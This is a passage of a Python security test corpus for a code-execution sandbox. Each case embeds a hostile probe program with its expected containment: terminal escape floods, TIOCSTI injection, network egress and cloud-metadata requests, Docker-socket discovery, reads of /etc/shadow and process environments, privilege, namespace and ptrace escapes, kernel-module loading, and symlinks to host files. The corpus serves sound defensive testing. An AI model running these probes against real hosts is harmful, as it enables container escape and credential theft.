        "w('\\x1b]0;pwned-title\\x07\\x1b]2;' + 'T' * 20000 + '\\x07')\n"
        "w('\\x1b[999999999;999999999H\\x1b[999999999@\\x1b[999999999L\\x1b[999999999M'"
        " '\\x1b[999999999S\\x1b[999999999T\\x1b[999999999X\\x1b[999999999P')\n"
        "w('\\x1b[' + ';'.join(['65535'] * 20000) + 'm')\n"
        "w('\\x1b[8;99999;99999t\\x1b[3;99999;99999t\\x1b[21t\\x1b[?1049h\\x1b[?2004h\\x1b#8'"
        " '\\x1b[?1000h\\x1b[6n\\x1b[>c\\x1b]10;?\\x07')\n"
        "w('\\x1bPq' + '#0;2;0;0;0' * 5000)\n"
        "w('\\x1b]6973;' + 'f' * 32 + ';{\"exitCode\": 0}')\n"
        "w('\\x1b_' + 'apc' * 1000)\nsys.stdout.flush()\n"
        "print('\\nAFTER-ESCAPES', flush=True)\nsys.exit(4)\n",
        S(RUNTIME_ERROR),
        output_has=("AFTER-ESCAPES",),
        during=get_session_after,
        check=check_escapes,
    ),
    Case(
        "csi_huge_digits",
        "CSI parameters of 5 000 and 100 000 digits, then a prompt",
        "the screen model bounds parameters (no int() of 100 000 digits): prompt and GET work",
        "import sys\nsys.stdout.write('\\x1b[' + '9' * 5000 + 'm')\n"
        "sys.stdout.write('\\x1b[' + '1' * 100000 + ';' + '2' * 100000 + 'H')\n"
        "sys.stdout.flush()\nprint('AFTER-DIGITS', flush=True)\n"
        "x = input('name? ')\nprint('hi', x)\n",
        S(OK),
        output_has=("AFTER-DIGITS",),
        during=answer_after_digits,
        check=check_digits,
    ),
    Case(
        "tiocsti",
        "TIOCSTI: push keystrokes into the terminal's input queue",
        "the terminal is the execution's own pty: injection stays in the session",
        prog(
            "import fcntl, select, termios\nline = b\"print('INJECTED-BY-TIOCSTI')\\n\"\n"
            "n, err = 0, None\ntry:\n    for ch in line:\n"
            "        fcntl.ioctl(0, termios.TIOCSTI, bytes([ch])); n += 1\n"
            "except OSError as e:\n    err = errname(e)\n"
            "back = None\nif n == len(line) and select.select([0], [], [], 0.5)[0]:\n"
            "    back = input()\nreport(injected=n, error=err, read_back=back)\n"
        ),
        S(OK),
        check=check_tiocsti,
    ),
    Case(
        "closed_stdin",
        "close fd 0, then read; the client keeps sending input, Ctrl-D, Ctrl-C",
        "input to a closed terminal is harmless: errors are the program's, the server's "
        "acks are well-formed",
        prog(
            "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "os.close(0)\nprint('CLOSED', flush=True)\ntime.sleep(1.0)\n"
            "try:\n    report(input=input('? '))\nexcept Exception as e:\n"
            "    report(input_error=type(e).__name__)\nprint('SURVIVED', flush=True)\n"
        ),
        S(OK),
        output_has=("SURVIVED",),
        during=poke_closed_stdin,
        check=check_closed_stdin,
    ),
    Case(
        "stdin_flood",
        "64 KiB typed ahead plus 300 inputs of 16 KiB (about 5 MB) at a program that barely reads",
        "bounded terminal queue, flow of writes, max_input_bytes; the server stays healthy",
        prog(
            "import select, time\nprint('READING', flush=True)\nn, t0 = 0, time.time()\n"
            "while time.time() - t0 < 1.5:\n    if select.select([0], [], [], 0.1)[0]:\n"
            "        n += len(os.read(0, 65536))\nreport(read=n)\n"
        ),
        # The terminal echoes what is typed, and the echo is output: a flood may end
        # at the output budget.
        S(OK, TIMEOUT, OUTPUT_LIMIT),
        stdin="y" * 65535 + "\n",
        during=flood_input,
        check=check_stdin_flood,
    ),
    # -- network -------------------------------------------------------------------------
    Case(
        "net_tcp_udp_egress",
        "TCP, UDP, IPv6, raw and packet sockets to outside addresses",
        "network none (only lo, no route); no CAP_NET_RAW",
        prog(
            "res = {}\n"
            "res['try tcp 198.51.100.7:80'] = attempt(socket.AF_INET, socket.SOCK_STREAM, ('198.51.100.7', 80))\n"
            "res['try tcp 203.0.113.9:443'] = attempt(socket.AF_INET, socket.SOCK_STREAM, ('203.0.113.9', 443))\n"
            "res['try udp 198.51.100.7:53'] = attempt(socket.AF_INET, socket.SOCK_DGRAM, ('198.51.100.7', 53))\n"
            "res['try tcp6 [2001:db8::1]:80'] = attempt(socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80))\n"
            "for fam, kind, proto, label in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, 'raw'),"
            " (socket.AF_PACKET, socket.SOCK_RAW, 0, 'packet')):\n"
            "    try:\n        socket.socket(fam, kind, proto).close(); res['try ' + label] = 'connected'\n"
            "    except OSError as e:\n        res['try ' + label] = errname(e)\n"
            "report(**res)\n",
            net=True,
        ),
        S(OK),
        check=_nothing_connected,
    ),
    Case(
        "net_dns",
        "resolve names (resolver and a direct query to the configured nameserver)",
        "network none: no resolver reachable",
        prog(
            "res = {}\nfor name in ('example.com', 'pypi.org', 'host.docker.internal'):\n"
            "    try:\n        socket.getaddrinfo(name, 80); res['try dns ' + name] = 'resolved'\n"
            "    except OSError as e:\n        res['try dns ' + name] = errname(e)\n"
            "try:\n    ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\n"
            "except OSError:\n    ns = []\n"
            "for server in ns[:2]:\n"
            "    fam = socket.AF_INET6 if ':' in server else socket.AF_INET\n"
            "    res['try udp %s:53' % server] = attempt(fam, socket.SOCK_DGRAM, (server, 53))\n"
            "report(**res)\n",
            net=True,
        ),
        S(OK),
        check=_nothing_connected,
    ),
    Case(
        "net_bridge_gateway",
        "the Docker bridge gateway (engine API ports, SSH, this server's port) and the "
        "server on loopback",
        "network none: no bridge, and the sandbox's loopback is its own",
        prog(
            "res = {}\nfor port in (2375, 2376, 22, 80, __SERVER_PORT__):\n"
            "    res['try tcp 172.17.0.1:%d' % port] = attempt(socket.AF_INET, socket.SOCK_STREAM, ('172.17.0.1', port))\n"
            "res['try tcp 127.0.0.1:__SERVER_PORT__'] = attempt(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', __SERVER_PORT__))\n"
            "report(**res)\n",
            net=True,
        ),
        S(OK),
        check=_nothing_connected,
    ),
    Case(
        "net_cloud_metadata",
        "cloud metadata endpoints (169.254.169.254, ECS 169.254.170.2, IPv6 fd00:ec2::254)",
        "network none",
        prog(
            "res = {}\n"
            "res['try tcp 169.254.169.254:80'] = attempt(socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80))\n"
            "res['try tcp 169.254.170.2:80'] = attempt(socket.AF_INET, socket.SOCK_STREAM, ('169.254.170.2', 80))\n"
            "res['try tcp6 [fd00:ec2::254]:80'] = attempt(socket.AF_INET6, socket.SOCK_STREAM, ('fd00:ec2::254', 80))\n"
            "try:\n    socket.getaddrinfo('metadata.google.internal', 80)\n"
            "    res['try dns metadata.google.internal'] = 'resolved'\n"
            "except OSError as e:\n    res['try dns metadata.google.internal'] = errname(e)\n"
            "report(**res)\n",
            net=True,
        ),
        S(OK),
        check=_nothing_connected,
    ),
    Case(
        "docker_socket",
        "find and talk to the Docker/containerd sockets (known paths, any socket on disk, "
        "TCP 2375/2376 on loopback)",
        "no mounts: no engine socket inside the sandbox",
        prog(
            "import socket, stat\nres = {}\n"
            "paths = ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock',"
            " '/var/run/containerd/containerd.sock', '/run/docker/containerd/containerd.sock',"
            " '/run/podman/podman.sock', '/run/user/1000/docker.sock', '__DOCKER_SOCK__']\n"
            "res['present'] = sorted({p for p in paths if os.path.lexists(p)})\n"
            "for p in paths:\n    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n        s.connect(p); res['try ' + p] = 'connected'\n"
            "    except OSError as e:\n        res['try ' + p] = errname(e)\n    s.close()\n"
            "found = []\nfor root, dirs, files in os.walk('/'):\n"
            "    if root in ('/proc', '/sys'):\n        dirs[:] = []; continue\n"
            "    for n in files:\n        try:\n"
            "            if stat.S_ISSOCK(os.lstat(os.path.join(root, n)).st_mode):\n"
            "                found.append(os.path.join(root, n))\n"
            "        except OSError:\n            pass\nres['sockets_on_disk'] = found\n"
            "for port in (2375, 2376):\n    s = socket.socket()\n    s.settimeout(1)\n"
            "    try:\n        s.connect(('127.0.0.1', port)); res['try tcp %d' % port] = 'connected'\n"
            "    except OSError as e:\n        res['try tcp %d' % port] = errname(e)\n    s.close()\n"
            "report(**res)\n"
        ),
        S(OK),
        check=check_sockets,
    ),
    # -- secrets, privileges, kernel -----------------------------------------------------
    Case(
        "host_secrets_canary",
        "print /proc/1/environ, /proc/self/environ, os.environ; grep every file and every "
        "/proc/*/environ|cmdline for the server's canary; read /etc/shadow",
        "the sandbox gets a fixed environment and no host files: the canary never appears",
        prog(
            "NAME = ('CODEX_TEST' + '_CANARY').encode()\n"
            "for p in ('/proc/self/environ', '/proc/1/environ'):\n"
            "    try:\n        print(p, open(p, 'rb').read().replace(b'\\0', b' ').decode('utf-8', 'replace'))\n"
            "    except OSError as e:\n        print(p, errname(e))\nprint(dict(os.environ))\n"
            "readable = {}\nfor p in ('/etc/shadow', '/etc/gshadow', '/root/.docker/config.json',"
            " '/run/secrets', '/var/run/secrets/kubernetes.io/serviceaccount/token',"
            " '/proc/1/root/etc/shadow'):\n"
            "    try:\n        open(p, 'rb').read(); readable[p] = 'READ'\n"
            "    except OSError as e:\n        readable[p] = errname(e)\n"
            "found, scanned = [], 0\nfor root, dirs, files in os.walk('/'):\n"
            "    if root in ('/sys', '/dev'):\n        dirs[:] = []; continue\n"
            "    if root == '/proc':\n"
            "        for pid in dirs:\n            for leaf in ('environ', 'cmdline'):\n"
            "                try:\n                    if NAME in open('/proc/%s/%s' % (pid, leaf), 'rb').read():\n"
            "                        found.append('/proc/%s/%s' % (pid, leaf))\n"
            "                except OSError:\n                    pass\n"
            "        dirs[:] = []; continue\n"
            "    for n in files:\n        p = os.path.join(root, n)\n"
            "        try:\n            if os.path.islink(p) or os.path.getsize(p) > (8 << 20):\n"
            "                continue\n            with open(p, 'rb') as f:\n"
            "                if NAME in f.read():\n                    found.append(p)\n"
            "            scanned += 1\n        except OSError:\n            pass\n"
            "report(found=found, files_scanned=scanned, readable=readable)\n"
        ),
        S(OK),
        settings={"time_limit": 30},
        check=check_secrets,
    ),
    Case(
        "write_system_paths",
        "create files in every system directory; open /etc/passwd, cgroup and /proc/sys "
        "files for writing (never writing)",
        "read-only root filesystem, a sandbox uid of its own, read-only /proc/sys and cgroup mounts",
        prog(
            "creates = ['/probe', '/etc/probe', '/usr/probe', '/usr/local/bin/probe', '/bin/probe',"
            " '/root/probe', '/home/probe', '/var/tmp/probe', '/var/probe', '/opt/probe', '/run/probe',"
            " '/srv/probe', '/dev/probe', '/proc/probe', '/sys/probe', '/tmp/probe']\n"
            "opens = ['/etc/passwd', '/etc/hosts', '/etc/resolv.conf', '/etc/hostname',"
            " '/usr/bin/python3', '/proc/sys/kernel/hostname', '/proc/sys/vm/drop_caches',"
            " '/sys/kernel/mm/transparent_hugepage/enabled', '/sys/fs/cgroup/memory/memory.limit_in_bytes',"
            " '/sys/fs/cgroup/memory.max', '/sys/fs/cgroup/pids/pids.max', '/sys/fs/cgroup/pids.max',"
            " '/proc/sys/kernel/core_pattern']\n"
            "writable, errors = [], {}\nfor p in creates:\n"
            "    try:\n        os.close(os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))\n"
            "        writable.append(p)\n    except OSError as e:\n        errors[p] = errname(e)\n"
            "for p in opens:\n    try:\n        os.close(os.open(p, os.O_WRONLY | os.O_APPEND))\n"
            "        writable.append(p)\n    except OSError as e:\n        errors[p] = errname(e)\n"
            "report(writable=writable, errors=errors)\n"
        ),
        S(OK),
        check=check_writable,
    ),
    Case(
        "setuid_capabilities",
        "become root: setuid/setgid/setgroups/chown, setuid-root binaries (mount), "
        "inspect capabilities",
        "a sandbox uid of its own, all capabilities dropped (bounding set too), no-new-privileges, seccomp",
        prog(
            "import subprocess\nst = {}\nfor line in open('/proc/self/status'):\n"
            "    k, _, v = line.partition(':')\n    st[k] = v.strip()\n"
            "res = {k: st.get(k) for k in ('Uid', 'Gid', 'Groups', 'CapInh', 'CapPrm', 'CapEff',"
            " 'CapBnd', 'CapAmb', 'NoNewPrivs', 'Seccomp')}\n"
            "open('/tmp/x', 'w').close()\n"
            "for name, fn in (('setuid', lambda: os.setuid(0)), ('setgid', lambda: os.setgid(0)),"
            " ('setgroups', lambda: os.setgroups([0])), ('setresuid', lambda: os.setresuid(0, 0, 0)),"
            " ('chown', lambda: os.chown('/tmp/x', 0, 0))):\n"
            "    try:\n        fn(); res[name] = 'ok'\n    except OSError as e:\n        res[name] = errname(e)\n"
            "os.makedirs('/tmp/m', exist_ok=True)\n"
            "p = subprocess.run(['mount', '-t', 'tmpfs', 'none', '/tmp/m'], capture_output=True)\n"
            "res['suid_mount_rc'] = p.returncode\n"
            "res['suid_files'] = [os.path.join(d, n) for d in ('/bin', '/usr/bin', '/sbin', '/usr/sbin')"
            " for n in (os.listdir(d) if os.path.isdir(d) else [])"
            " if os.path.exists(os.path.join(d, n)) and os.stat(os.path.join(d, n)).st_mode & 0o4000]\n"
            "report(**res)\n"
        ),
        S(OK),
        check=check_privileges,
    ),
    Case(
        "mount_unshare_chroot_setns",
        "unshare user/mount/net/pid namespaces, mount tmpfs and proc, chroot, pivot_root, "
        "setns into PID 1's namespace, the unshare(1) command",
        "no CAP_SYS_ADMIN/CAP_SYS_CHROOT and the seccomp filter: EPERM",
        prog(
            "import subprocess\nres = {}\n"
            "for key, flag in (('unshare_user', 0x10000000), ('unshare_mnt', 0x20000),"
            " ('unshare_net', 0x40000000), ('unshare_pid', 0x20000000)):\n"
            "    res[key] = sys_call('unshare', flag)\n"
            "os.makedirs('/tmp/m', exist_ok=True)\n"
            "res['mount_tmpfs'] = sys_call('mount', b'none', b'/tmp/m', b'tmpfs', 0, None)\n"
            "res['mount_proc'] = sys_call('mount', b'proc', b'/tmp/m', b'proc', 0, None)\n"
            "res['chroot'] = sys_call('chroot', b'/tmp')\n"
            "res['pivot_root'] = sys_call('pivot_root', b'/tmp', b'/tmp/m')\n"
            "try:\n    fd = os.open('/proc/1/ns/mnt', os.O_RDONLY)\n"
            "    res['setns_mnt'] = sys_call('setns', fd, 0)\nexcept OSError as e:\n"
            "    res['setns_mnt'] = errname(e)\n"
            "try:\n    res['unshare_cmd_rc'] = subprocess.run(['unshare', '-U', '-r', 'true'],"
            " capture_output=True).returncode\nexcept OSError as e:\n    res['unshare_cmd_rc'] = errname(e)\n"
            "report(**res)\n"
        ),
        S(OK),
        check=check_namespaces,
    ),
    Case(
        "ptrace_process_vm",
        "PTRACE_TRACEME, PTRACE_ATTACH to PID 1 and to the supervisor, "
        "process_vm_readv/writev on itself",
        "seccomp: ptrace and process_vm_* denied (EPERM/ENOSYS)",
        prog(
            "res = {}\nr, w = os.pipe()\npid = os.fork()\nif pid == 0:\n"
            "    os.write(w, sys_call('ptrace', 0, 0, 0, 0).encode()); os._exit(0)\n"
            "os.waitpid(pid, 0)\nres['ptrace_traceme'] = os.read(r, 100).decode()\n"
            "for key, target in (('ptrace_attach_init', 1), ('ptrace_attach_parent', os.getppid())):\n"
            "    res[key] = sys_call('ptrace', 16, target, 0, 0)\n"
            "    if res[key].startswith('ok'):\n"
            "        try:\n            os.waitpid(target, 0x40000000)\n        except OSError:\n            pass\n"
            "        sys_call('ptrace', 17, target, 0, 0)\n"
            "class iovec(ctypes.Structure):\n"
            "    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
            "src = ctypes.create_string_buffer(b'secret', 32)\ndst = ctypes.create_string_buffer(32)\n"
            "local = iovec(ctypes.cast(dst, ctypes.c_void_p), 32)\n"
            "remote = iovec(ctypes.cast(src, ctypes.c_void_p), 32)\n"
            "res['process_vm_readv'] = sys_call('process_vm_readv', os.getpid(), ctypes.byref(local), 1,"
            " ctypes.byref(remote), 1, 0)\n"
            "res['process_vm_writev'] = sys_call('process_vm_writev', os.getpid(), ctypes.byref(local), 1,"
            " ctypes.byref(remote), 1, 0)\n"
            "report(**res)\n"
        ),
        S(OK),
        check=check_ptrace,
    ),
    Case(
        "sysrq_and_kernel_files",
        "open /proc/sysrq-trigger, /dev/mem, /dev/kmsg, /proc/kcore and friends for "
        "writing (never writing)",
        "a sandbox uid of its own, read-only /proc/sys and sysrq-trigger, no devices: every open refused",
        prog(
            "res = {}\nfor p in ('/proc/sysrq-trigger', '/proc/sys/kernel/sysrq', '/proc/kcore',"
            " '/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/proc/sys/kernel/modprobe',"
            " '/sys/kernel/debug', '/sys/kernel/uevent_helper', '/proc/sys/kernel/core_pattern'):\n"
            "    try:\n        os.close(os.open(p, os.O_WRONLY)); res[p] = 'OPENED'\n"
            "    except OSError as e:\n        res[p] = errname(e)\n"
            "for p in ('/proc/kcore', '/dev/mem'):\n"
            "    try:\n        os.close(os.open(p, os.O_RDONLY)); res[p + ' (read)'] = 'OPENED'\n"
            "    except OSError as e:\n        res[p + ' (read)'] = errname(e)\n"
            "report(**res)\n"
        ),
        S(OK),
        check=check_kernel_files,
    ),
    Case(
        "kernel_module",
        "load a kernel module (finit_module, init_module), remove one, run modprobe",
        "no CAP_SYS_MODULE and the seccomp filter: EPERM",
        prog(
            "import subprocess\nres = {}\nfd = os.open('/dev/null', os.O_RDONLY)\n"
            "res['finit_module'] = sys_call('finit_module', fd, b'', 0)\n"
            "img = ctypes.create_string_buffer(64)\n"
            "res['init_module'] = sys_call('init_module', img, 64, b'')\n"
            "res['delete_module'] = sys_call('delete_module', b'codex_no_such_module', os.O_NONBLOCK)\n"
            "try:\n    res['modprobe_rc'] = subprocess.run(['modprobe', 'dummy'], capture_output=True).returncode\n"
            "except OSError as e:\n    res['modprobe_rc'] = errname(e)\n"
            "report(**res)\n"
        ),
        S(OK),
        check=_all_denied(("finit_module", "init_module", "delete_module")),
    ),
    Case(
        "io_uring_bpf_keyctl_userfaultfd",
        "io_uring_setup/enter/register, bpf, keyctl/add_key/request_key, userfaultfd, "
        "perf_event_open",
        "seccomp: Docker's default minus io_uring: every one EPERM/ENOSYS",
        prog(
            "res = {}\nparams = ctypes.create_string_buffer(120)\n"
            "res['io_uring_setup'] = sys_call('io_uring_setup', 4, params)\n"
            "res['io_uring_enter'] = sys_call('io_uring_enter', 0, 0, 0, 0, 0, 0)\n"
            "res['io_uring_register'] = sys_call('io_uring_register', 0, 0, 0, 0)\n"
            "attr = ctypes.create_string_buffer(128)\n"
            "res['bpf'] = sys_call('bpf', 0, attr, 128)\n"
            "res['keyctl'] = sys_call('keyctl', 0, -3, 0)\n"
            "res['add_key'] = sys_call('add_key', b'user', b'codex-probe', b'x', 1, -3)\n"
            "res['request_key'] = sys_call('request_key', b'user', b'codex-probe', None, 0)\n"
            "res['userfaultfd'] = sys_call('userfaultfd', 0)\n"
            "res['perf_event_open'] = sys_call('perf_event_open', attr, 0, -1, -1, 0)\n"
            "report(**res)\n"
        ),
        S(OK),
        check=_all_denied(
            (
                "io_uring_setup",
                "io_uring_enter",
                "io_uring_register",
                "bpf",
                "keyctl",
                "add_key",
                "request_key",
                "userfaultfd",
            )
        ),
    ),
    Case(
        "core_dump",
        "raise RLIMIT_CORE and abort a child in /tmp, then abort itself",
        "core ulimit 0 (hard): no core file, runtime_error SIGABRT",
        prog(
            "import resource\nsoft, hard = resource.getrlimit(resource.RLIMIT_CORE)\n"
            "try:\n    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,"
            " resource.RLIM_INFINITY)); raised = True\nexcept (ValueError, OSError):\n    raised = False\n"
            "pid = os.fork()\nif pid == 0:\n    os.chdir('/tmp'); os.abort()\n"
            "_, status = os.waitpid(pid, 0)\n"
            "report(soft=soft, hard=hard, raised=raised, core_dumped=os.WCOREDUMP(status),"
            " cores=[n for n in os.listdir('/tmp') if n.startswith('core')],"
            " pattern=open('/proc/sys/kernel/core_pattern').read().strip())\nos.abort()\n"
        ),
        S(RUNTIME_ERROR),
        signal="SIGABRT",
        check=check_core,
    ),
    Case(
        "symlinks_for_host",
        "plant symlinks and a FIFO in /tmp aimed at host files (a host sentinel, "
        "/etc/shadow, the Docker socket, /proc/1/root) where a host tool might look, "
        "then crash",
        "nothing on the host reads the sandbox's files; /tmp is removed with it",
        prog(
            "links = {'/tmp/main.py': '/etc/shadow', '/tmp/docker.sock': '/var/run/docker.sock',"
            " '/tmp/hostroot': '/proc/1/root', '/tmp/sentinel': '__HOST_SENTINEL__',"
            " '/tmp/core': '__HOST_SENTINEL__', '/tmp/nohup.out': '__HOST_SENTINEL__',"
            " '/tmp/.bash_history': '__HOST_SENTINEL__'}\n"
            "for link, target in links.items():\n    os.symlink(target, link)\n"
            "os.mkfifo('/tmp/fifo')\n"
            "try:\n    open('/tmp/sentinel', 'w').write('PWNED')\nexcept OSError:\n    pass\n"
            "report(planted=len(links))\nctypes.string_at(0)\n"
        ),
        S(RUNTIME_ERROR),
        signal="SIGSEGV",
        check=check_symlinks,
    ),
    Case(
        "sandbox_recon",
        "map the sandbox: hostname, ids, PID 1, mounts, interfaces, visible processes",
        "the container's shape: hostname sandbox, a sandbox uid of its own, docker-init PID 1, read-only "
        "root, nosuid/nodev /tmp, no host mounts, only lo, own PID namespace",
        prog(
            "import socket\nres = {'hostname': socket.gethostname(), 'uid': os.getuid(), 'gid': os.getgid()}\n"
            "res['pid1'] = open('/proc/1/cmdline', 'rb').read().decode('utf-8', 'replace')\n"
            "mounts = [l.split() for l in open('/proc/self/mountinfo')]\n"
            "res['root_ro'] = any(m[4] == '/' and 'ro' in m[5].split(',') for m in mounts)\n"
            "tmp = [m for m in mounts if m[4] == '/tmp']\n"
            "if tmp:\n    st = os.statvfs('/tmp')\n"
            "    res['tmp'] = {'opts': tmp[0][5].split(',') + tmp[0][-1].split(','),"
            " 'size': st.f_blocks * st.f_frsize}\nelse:\n    res['tmp'] = None\n"
            "always = {'/etc/resolv.conf', '/etc/hostname', '/etc/hosts', '/sbin/docker-init',"
            " '/usr/sbin/docker-init', '/dev/init'}\n"
            "res['binds'] = [m[4] for m in mounts if m[3] != '/' and m[4] not in always"
            " and not m[4].startswith(('/proc', '/sys', '/dev'))]\n"
            "res['rw_mounts'] = sorted(m[4] for m in mounts if 'rw' in m[5].split(',')"
            " and not m[4].startswith(('/proc', '/sys', '/dev/pts')) and m[4] != '/dev')\n"
            "res['net'] = [l.split(':')[0].strip() for l in open('/proc/net/dev').read().splitlines()[2:]]\n"
            "res['visible_pids'] = len([p for p in os.listdir('/proc') if p.isdigit()])\n"
            "report(**res)\n"
        ),
        S(OK),
        check=check_recon,
    ),
]


# The attacks tested outside the parametrized corpus: (test, attack, what contains it).
OTHER_TESTS: list[tuple[str, str, str]] = [
    (
        "test_cross_session.py::test_snooping_twice_in_a_row",
        "a session plants a secret (files in /tmp and /dev/shm, environ, argv, abstract "
        "socket, loopback port, SysV shm) and ends; the next session searches for it; twice",
        "one fresh container per execution, removed with its tmpfs; private IPC, PID and "
        "network namespaces",
    ),
    (
        "test_cross_session.py::test_snooping_twice_at_once",
        "the same while the planting session is alive (two pairs at once)",
        "separate containers: no shared filesystem, PID, IPC or network namespace; events "
        "only to the session's own clients",
    ),
    (
        "test_cross_session.py::test_the_snooper_finds_a_secret_in_its_own_sandbox",
        "control: the search finds every plant inside the planting sandbox",
        "(proves the snooper looks where the secret is)",
    ),
    (
        "test_web_abuse.py::test_oversized_http_bodies",
        "code/stdin over their limits, 300 KiB and 5 MiB bodies, 1 MiB bodies on body-less "
        "routes, a 60 kB header",
        "body caps before parsing: 413 payload_too_large in the JSON shape",
    ),
    (
        "test_web_abuse.py::test_oversized_socketio_and_websocket_messages",
        "an input over max_input_bytes, an Engine.IO message over maxPayload, 70 kB "
        "terminal WebSocket frames",
        "payload_too_large; Engine.IO closes the connection; WebSocket close 1009",
    ),
    (
        "test_web_abuse.py::test_wrong_types_in_every_field_of_every_event",
        "every field of every Socket.IO event (and whole payloads) as null, numbers, huge "
        "ints, inf, lists, objects, lone surrogates; bad terminado messages; bad HTTP bodies "
        "(lone surrogates, 100 000-deep JSON)",
        "validation: an error acknowledgement in the JSON shape, never internal_error",
    ),
    (
        "test_web_abuse.py::test_extra_arguments_get_an_error_acknowledgement",
        "Socket.IO events with three arguments instead of one payload",
        "an error acknowledgement in the JSON shape (not a handler crash, not silence)",
    ),
    (
        "test_web_abuse.py::test_foreign_origins_are_refused_on_every_transport",
        "foreign and look-alike Origins (evil.example, localhost.evil.example, "
        "localhost@evil, null, file://) on the API, polling, WebSocket and terminal",
        "the one origin policy: 403 origin_not_allowed, 400 for polling, 403 on upgrades",
    ),
    (
        "test_web_abuse.py::test_execute_storm_over_the_rate_limit",
        "25 parallel executes and 8 Socket.IO executes over a 5/second limit; a forged "
        "X-Forwarded-For",
        "per-address rate limit: 429 rate_limited with Retry-After and RateLimit-*; "
        "X-Forwarded-For only from trusted proxies",
    ),
    (
        "test_web_abuse.py::test_join_storm_over_the_rate_limit",
        "40 joins at once over a 10/second limit",
        "per-address join limit: rate_limited errors, the connection stays",
    ),
    (
        "test_web_abuse.py::test_joining_random_session_ids_finds_nothing",
        "join, input, GET, DELETE and terminal attach with random and near-miss ids",
        "192-bit ids, exact match only: session_not_found / 404 / close 4404",
    ),
    (
        "test_schemathesis.py::test_schemathesis_finds_no_server_error_and_one_error_shape",
        "schemathesis (coverage, fuzzing, stateful) against /api/openapi.json",
        "no 5xx but the documented 503s; every error in the JSON shape",
    ),
]


def case_ids() -> list[str]:
    return [c.name for c in CASES]


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def markdown() -> str:
    """docs/security-corpus.md (``python -m tests.security.corpus > docs/security-corpus.md``;
    test_corpus.py checks that it is in step)."""
    lines = [
        "# Security corpus",
        "",
        "<!-- Generated by `python -m tests.security.corpus > docs/security-corpus.md` from "
        "tests/security/corpus.py; tests/security/test_corpus.py checks it. -->",
        "",
        "Each attack runs against a real server and a real sandbox, with output "
        "sanitization off. After every one: no container of the session is left within "
        '2 s, `GET /healthz` answers 200, and a follow-up `print("ok")` completes `ok`. '
        "A canary secret in the server's environment (`CODEX_TEST_CANARY`) must never "
        "appear in any session's events. Run: "
        "`.venv/bin/python -m pytest -q tests/security`.",
        "",
        f"## The corpus ({len(CASES)} programs, `tests/security/corpus.py`)",
        "",
        "| case | attack | what contains it | verdict |",
        "| --- | --- | --- | --- |",
    ]
    for c in CASES:
        verdicts = ", ".join(f"`{v}`" for v in sorted(c.status))
        lines.append(f"| `{c.name}` | {_cell(c.attack)} | {_cell(c.contains)} | {verdicts} |")
    lines += [
        "",
        "## Sessions against each other, and the web layer",
        "",
        "| test | attack | what contains it |",
        "| --- | --- | --- |",
    ]
    for test, attack, contains in OTHER_TESTS:
        lines.append(f"| `{test}` | {_cell(attack)} | {_cell(contains)} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(markdown(), end="")
